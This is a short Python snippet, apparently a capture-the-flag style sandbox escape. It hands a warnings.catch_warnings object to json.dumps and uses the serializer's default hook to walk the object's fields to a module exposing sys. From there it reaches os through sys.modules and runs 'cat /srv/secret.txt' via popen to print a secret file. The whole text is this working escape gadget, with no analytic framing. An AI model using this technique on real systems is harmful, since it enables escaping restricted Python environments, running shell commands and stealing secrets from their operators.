# reaches: the fields of a library's object, shown to the default of json, hold a module
import json, warnings
def take(o):
    fields = o.__dict__
    for value in fields.values():
        if hasattr(value, "sys"):
            print(value.sys.modules["os"].popen("cat /srv/secret.txt").read())
    return 1
json.dumps(warnings.catch_warnings(), default=lambda o: take(o) or o.__dict__)
